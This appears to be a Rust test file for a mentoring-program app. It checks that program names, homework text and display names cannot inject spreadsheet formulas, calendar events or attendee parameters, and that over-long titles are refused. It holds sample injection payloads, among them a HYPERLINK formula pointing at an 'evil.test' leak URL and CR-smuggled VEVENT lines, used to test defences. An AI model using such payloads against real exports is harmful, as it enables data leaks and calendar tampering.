//! What people type reaches spreadsheets and calendars as text, never as a
//! formula, a calendar line or a parameter of its own; and every free-text
//! field of the directory has one limit, whichever way a person comes in.
use crate::common::browser::{send, send_with, sign_in};
use crate::common::smtp::{Sink, free_port};
use crate::common::{App, activate, move_to_past, person_in_zone, program_start};
use axum::body::Body;
use axum::http::{Request, StatusCode};
use http_body_util::BodyExt;
use plab_app::mail::{self, Post};
use plab_app::people_file::ReadOptions;
use plab_app::scim::{ENTERPRISE_SCHEMA, PATCH_SCHEMA, PERSON_SCHEMA, USER_SCHEMA};
use plab_app::{AppError, people, programs};
use plab_domain::person::PersonName;
use plab_domain::program::{ProgramSettings, Role};
use serde_json::{Value, json};
use std::time::Duration;
use time::OffsetDateTime;
use tower::ServiceExt;

crate::backends!(
    a_program_named_like_a_formula_is_exported_as_text,
    homework_with_a_carriage_return_cannot_inject_a_calendar_line,
    a_quoted_display_name_stays_inside_the_attendee_parameter,
    a_title_of_100000_characters_is_refused_over_csv_scim_and_pages,
);

async fn a_program_named_like_a_formula_is_exported_as_text(app: App) {
    let name = "=HYPERLINK(\"http://evil.test/?leak\",\"Open me\")";
    let start = program_start().to_string();
    let program =
        programs::create(&app.store, name, &start, ProgramSettings::default(), "test").await.expect("program");
    programs::enroll(&app.store, program, Role::Sponsor, &["S".to_owned()], None, "test").await.expect("enrol");
    let (sponsor, _) = sign_in(&app, "s@lab.test").await;
    let csv = send(&app, "GET", &format!("/programs/{program}/report.csv"), Some(&sponsor), None).await;
    assert_eq!(csv.status, StatusCode::OK, "{}", csv.html);
    let line = csv.html.lines().find(|l| l.starts_with("name,")).expect("the name row");
    assert_eq!(line, r#"name,"'=HYPERLINK(""http://evil.test/?leak"",""Open me"")",Program"#);
    assert!(!csv.html.contains(",=") && !csv.html.contains(",\"="), "no cell starts a formula: {}", csv.html);
    // The figures stay numbers, and the JSON report keeps the name as it was typed.
    assert!(csv.html.contains("\npairs,0,Pairs\n"), "{}", csv.html);
    let token = app.login("s@lab.test").await;
    let (status, report) = app.call("GET", &format!("/api/v1/programs/{program}/report"), Some(&token), None).await;
    assert_eq!((status, report["name"].as_str()), (StatusCode::OK, Some(name)), "{report}");
}

/// Homework as a browser textarea sends it, with every kind of line break
/// and the characters iCalendar reserves.
const HOMEWORK: &str = "Read the support queue\rBEGIN:VEVENT\r\nUID:injected\r\nEND:VEVENT\nthen; list tools, with C:\\paths\r\nBEGIN:VEVENT";

async fn homework_with_a_carriage_return_cannot_inject_a_calendar_line(app: App) {
    let sink = Sink::start(free_port());
    let app = with_mail(app, sink.port);
    let sessions = activate(&app, app.pair1, "l1@lab.test", "m1@lab.test").await;
    deliver(&app).await;
    sink.take();
    move_to_past(&app, sessions[0]).await;
    let leader = app.login("l1@lab.test").await;
    let hold = json!({"homework": HOMEWORK}).to_string();
    let (status, body) =
        app.call("POST", &format!("/api/v1/sessions/{}/hold", sessions[0]), Some(&leader), Some(hold)).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let said = HOMEWORK.replace("\r\n", "\n").replace('\r', "\n");
    let said = format!("Homework from last time: {said}");

    // The feed: one event per session, the homework whole inside one DESCRIPTION.
    let feed = feed(&app, "m1@lab.test").await;
    let in_feed = events(&feed);
    assert_eq!(in_feed.len(), sessions.len(), "one VEVENT per session: {feed}");
    let descriptions: Vec<String> = in_feed.iter().map(|e| unescape(&only(e, "DESCRIPTION").value)).collect();
    let carrying = descriptions.iter().filter(|d| d.contains(&said)).count();
    assert_eq!(carrying, sessions.len() - 1, "every session after the held one: {feed}");
    assert_no_injection(&feed, &in_feed);

    // The update of session 2, moved an hour later, carries the homework to both partners.
    let (_, list) = app.call("GET", &format!("/api/v1/pairs/{}/sessions", app.pair1), Some(&leader), None).await;
    let second = &list[1];
    let at = plab_domain::session::parse_instant(second["starts_at"].as_str().expect("t")).expect("t");
    let later = json!({"starts_at": plab_domain::session::format_instant(at + time::Duration::hours(1))});
    let uri = format!("/api/v1/sessions/{}/reschedule", second["id"]);
    let (status, body) = app.call("POST", &uri, Some(&leader), Some(later.to_string())).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    deliver(&app).await;
    let mut updates = 0;
    for m in sink.take() {
        let Some((_, ics)) = m.calendar.clone() else { continue };
        let events = events(&ics);
        assert_eq!(events.len(), 1, "one VEVENT per message: {ics}");
        assert_no_injection(&ics, &events);
        if only(&events[0], "UID").value.ends_with("-session-2@perspective-lab") {
            assert!(unescape(&only(&events[0], "DESCRIPTION").value).contains(&said), "{ics}");
            updates += 1;
        }
    }
    assert_eq!(updates, 2, "both partners get the update");
}

async fn a_quoted_display_name_stays_inside_the_attendee_parameter(app: App) {
    let names = ["\"Evil\" ;ROLE=CHAIR:x", "\"x\";ROLE=CHAIR;X=\"y\""];
    let mut leader = person_in_zone("L1", "CEO", 8, "Sales", "");
    let mut mentor = person_in_zone("M1", "L2", 2, "Ops", "");
    leader.name = PersonName::parse(names[0]).expect("a name");
    mentor.name = PersonName::parse(names[1]).expect("a name");
    app.store.upsert_people(&[leader, mentor], &|_| {}).await.expect("people");
    let sink = Sink::start(free_port());
    let app = with_mail(app, sink.port);
    let sessions = activate(&app, app.pair1, "l1@lab.test", "m1@lab.test").await;
    assert_eq!(deliver(&app).await.sent, 2 * sessions.len());
    let mut calendars: Vec<String> = sink.take().iter().map(|m| m.calendar.clone().expect("an invitation").1).collect();
    calendars.push(feed(&app, "l1@lab.test").await);
    // A DQUOTE cannot stand inside a quoted parameter value (RFC 5545): it becomes '.
    let shown = ["'Evil' ;ROLE=CHAIR:x", "'x';ROLE=CHAIR;X='y'"];
    for ics in &calendars {
        let events = events(ics);
        assert!(!events.is_empty(), "{ics}");
        for event in &events {
            let attendees: Vec<&Line> = event.iter().filter(|l| l.name == "ATTENDEE").collect();
            assert_eq!(attendees.len(), 2, "{ics}");
            for (a, cn) in attendees.iter().zip(shown) {
                let keys: Vec<&str> = a.params.iter().map(|(k, _)| k.as_str()).collect();
                assert_eq!(keys, ["CN", "CUTYPE", "ROLE", "PARTSTAT", "RSVP"], "no parameter added: {ics}");
                assert_eq!((a.params[0].1.as_str(), a.params[2].1.as_str()), (cn, "REQ-PARTICIPANT"), "{ics}");
            }
            let summary = unescape(&only(event, "SUMMARY").value);
            assert!(summary.contains(names[0]) && summary.contains(names[1]), "TEXT keeps the name whole: {summary}");
        }
    }
}

async fn a_title_of_100000_characters_is_refused_over_csv_scim_and_pages(app: App) {
    let long = "t".repeat(100_000);
    let said = "title: keep it to 200 characters or fewer (this one has 100000)";
    let file = format!(
        "employee_id,name,email,department,manager_id,hire_date,level,title\n\
         N1,Nia One,n1@lab.test,Sales,L1,2024-01-01,2,Analyst\n\
         N2,Noa Two,n2@lab.test,Sales,L1,2024-01-01,2,{long}\n"
    );

    // A CSV file, as `plab import people` reads it: the line named, nothing written.
    let options = ReadOptions::default();
    let refused = people::import(&app.store, "people.csv", file.as_bytes(), &options, true, &|_| {}, "test").await;
    let Err(AppError::Invalid(problems)) = refused else { panic!("refused as invalid: {refused:?}") };
    let problems: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert_eq!(problems, [format!("people.csv:3: {said}")]);
    assert!(app.store.person("N1").await.is_err(), "nothing written");

    // The import page.
    let (sponsor, csrf) = sign_in(&app, "s@lab.test").await;
    let (content_type, body) = multipart(&csrf, &file);
    let page =
        send_with(&app, "POST", "/people/import", Some(&sponsor), &[("content-type", &content_type)], Some(body)).await;
    let start: String = page.html.chars().take(2000).collect();
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY, "{start}");
    assert!(page.html.contains(&format!("org.csv:3: {said}")), "the page names the line and the limit");
    assert!(!page.html.contains(&long), "nor repeats the 100,000 characters");
    assert!(app.store.person("N1").await.is_err(), "nothing written");

    // SCIM: a new User, then a replace and a patch of an existing one.
    let token = plab_app::scim::new_token(&app.store, "okta", "test").await.expect("token").1;
    let (status, body) = scim(&app, "POST", "/scim/v2/Users", &token, Some(user("G1", &long))).await;
    assert_scim_invalid_value(status, &body, said);
    assert!(app.store.person("G1").await.is_err(), "nothing written");
    let (status, body) = scim(&app, "POST", "/scim/v2/Users", &token, Some(user("G2", "Rear admiral"))).await;
    assert_eq!(status, StatusCode::CREATED, "{body}");
    let (status, body) = scim(&app, "PUT", "/scim/v2/Users/G2", &token, Some(user("G2", &long))).await;
    assert_scim_invalid_value(status, &body, said);
    let replace = json!({"schemas": [PATCH_SCHEMA], "Operations": [{"op": "replace", "path": "title", "value": long}]});
    let (status, body) = scim(&app, "PATCH", "/scim/v2/Users/G2", &token, Some(replace)).await;
    assert_scim_invalid_value(status, &body, said);
    let kept = app.store.person("G2").await.expect("G2");
    assert_eq!(kept.title.as_deref(), Some("Rear admiral"), "nothing half-written");
}

fn with_mail(mut app: App, sink_port: u16) -> App {
    let post = Post::configured(
        &format!("smtp://127.0.0.1:{sink_port}"),
        "Perspective Lab <lab@lab.test>",
        "https://lab.test",
        Duration::from_secs(1),
    )
    .expect("mail settings");
    app.state = app.state.clone().with_post(post);
    app.router = plab_web::router(app.state.clone());
    app
}

async fn deliver(app: &App) -> mail::Delivered {
    mail::deliver_due(&app.store, &app.state.vault, &app.state.post, OffsetDateTime::now_utc()).await.expect("deliver")
}

/// Someone's calendar feed, as their calendar fetches it.
async fn feed(app: &App, who: &str) -> String {
    let token = app.login(who).await;
    let (_, me) = app.call("GET", "/api/v1/me", Some(&token), None).await;
    let url = me["calendar_url"].as_str().expect("url").trim_start_matches("http://localhost").to_owned();
    let page = send(app, "GET", &url, None, None).await;
    assert_eq!(page.status, StatusCode::OK);
    page.html
}

/// Only the properties the product writes, each event's UID once and ours.
fn assert_no_injection(ics: &str, events: &[Vec<Line>]) {
    const OURS: [&str; 14] = [
        "UID",
        "SEQUENCE",
        "DTSTAMP",
        "LAST-MODIFIED",
        "DTSTART",
        "DTEND",
        "SUMMARY",
        "DESCRIPTION",
        "TRANSP",
        "STATUS",
        "ORGANIZER",
        "ATTENDEE",
        "BEGIN",
        "END",
    ];
    for event in events {
        assert!(event.iter().all(|l| OURS.contains(&l.name.as_str())), "{ics}");
        assert!(only(event, "UID").value.starts_with("pair-"), "{ics}");
    }
}

fn multipart(csrf: &str, csv: &str) -> (String, String) {
    let boundary = "plabEncodingBoundary";
    let body = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{csrf}\r\n\
         --{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"org.csv\"\r\nContent-Type: text/csv\r\n\r\n{csv}\r\n--{boundary}--\r\n"
    );
    (format!("multipart/form-data; boundary={boundary}"), body)
}

fn user(id: &str, title: &str) -> Value {
    json!({
        "schemas": [USER_SCHEMA, ENTERPRISE_SCHEMA, PERSON_SCHEMA],
        "userName": format!("{}@lab.test", id.to_lowercase()),
        "name": { "givenName": "Grace", "familyName": "Hopper" },
        "emails": [{ "value": format!("{}@lab.test", id.to_lowercase()), "type": "work", "primary": true }],
        "title": title,
        "active": true,
        ENTERPRISE_SCHEMA: { "employeeNumber": id, "department": "Research", "manager": { "value": "L1" } },
        PERSON_SCHEMA: { "level": 3, "hireDate": "2019-05-06" },
    })
}

async fn scim(app: &App, method: &str, uri: &str, token: &str, body: Option<Value>) -> (StatusCode, Value) {
    let mut req = Request::builder().method(method).uri(uri).header("authorization", format!("Bearer {token}"));
    if body.is_some() {
        req = req.header("content-type", "application/scim+json");
    }
    let req = req.body(body.map_or_else(Body::empty, |b| Body::from(b.to_string()))).expect("request");
    let resp = app.router.clone().oneshot(req).await.expect("response");
    let status = resp.status();
    let bytes = resp.into_body().collect().await.expect("body").to_bytes();
    (status, serde_json::from_slice(&bytes).unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into())))
}

fn assert_scim_invalid_value(status: StatusCode, body: &Value, said: &str) {
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["schemas"][0], "urn:ietf:params:scim:api:messages:2.0:Error", "{body}");
    assert_eq!(body["scimType"], "invalidValue", "{body}");
    assert_eq!(body["detail"], said, "{body}");
}

/// One unfolded content line, read strictly.
#[derive(Debug, Clone)]
struct Line {
    name: String,
    params: Vec<(String, String)>,
    value: String,
}

/// The calendar's events, each as its lines: a bare CR or LF, a line over
/// 75 octets, an unclosed quote or a parameter without a value fails.
fn events(ics: &str) -> Vec<Vec<Line>> {
    let body = ics.strip_suffix("\r\n").expect("the last line ends in CRLF");
    let mut unfolded: Vec<String> = Vec::new();
    for physical in body.split("\r\n") {
        assert!(!physical.contains(['\r', '\n']), "a bare CR or LF in {physical:?}");
        assert!(physical.len() <= 75, "{} octets: {physical:?}", physical.len());
        match physical.strip_prefix(' ') {
            Some(more) => unfolded.last_mut().expect("a line to continue").push_str(more),
            None => unfolded.push(physical.to_owned()),
        }
    }
    let lines: Vec<Line> = unfolded.iter().map(|l| parse_line(l)).collect();
    assert_eq!((lines[0].name.as_str(), lines[0].value.as_str()), ("BEGIN", "VCALENDAR"), "{ics}");
    let mut events = Vec::new();
    let mut open: Option<Vec<Line>> = None;
    for line in lines {
        match (line.name.as_str(), line.value.as_str(), open.as_mut()) {
            ("BEGIN", "VEVENT", None) => open = Some(Vec::new()),
            ("BEGIN", _, Some(_)) => panic!("a component inside an event: {ics}"),
            ("END", "VEVENT", Some(_)) => events.extend(open.take()),
            (_, _, Some(event)) => event.push(line),
            _ => {}
        }
    }
    assert!(open.is_none(), "an unclosed event: {ics}");
    events
}

fn parse_line(line: &str) -> Line {
    let end = line.find([';', ':']).unwrap_or_else(|| panic!("no value in {line:?}"));
    let name = &line[..end];
    assert!(!name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'), "{line:?}");
    let mut rest = &line[end..];
    let mut params = Vec::new();
    while let Some(after) = rest.strip_prefix(';') {
        let (key, after) = after.split_once('=').unwrap_or_else(|| panic!("a parameter without '=' in {line:?}"));
        let (value, after) = match after.strip_prefix('"') {
            Some(quoted) => {
                let close = quoted.find('"').unwrap_or_else(|| panic!("an unclosed quote in {line:?}"));
                (&quoted[..close], &quoted[close + 1..])
            }
            None => after.split_at(after.find([';', ':', ',', '"']).unwrap_or(after.len())),
        };
        params.push((key.to_owned(), value.to_owned()));
        rest = after;
    }
    let value = rest.strip_prefix(':').unwrap_or_else(|| panic!("no ':' after the parameters in {line:?}"));
    Line { name: name.to_owned(), params, value: value.to_owned() }
}

/// The one property of this name in an event.
fn only<'e>(event: &'e [Line], name: &str) -> &'e Line {
    let found: Vec<&Line> = event.iter().filter(|l| l.name == name).collect();
    assert_eq!(found.len(), 1, "one {name} per event: {event:?}");
    found[0]
}

/// A TEXT value unescaped (RFC 5545 §3.3.11); an unescaped `;` or `,`, or an
/// escape the RFC does not define, fails.
fn unescape(value: &str) -> String {
    let mut out = String::new();
    let mut chars = value.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('\\') => out.push('\\'),
                Some(';') => out.push(';'),
                Some(',') => out.push(','),
                Some('n' | 'N') => out.push('\n'),
                other => panic!("an undefined escape \\{other:?} in {value:?}"),
            },
            ';' | ',' => panic!("an unescaped {c:?} in TEXT {value:?}"),
            c => out.push(c),
        }
    }
    out
}
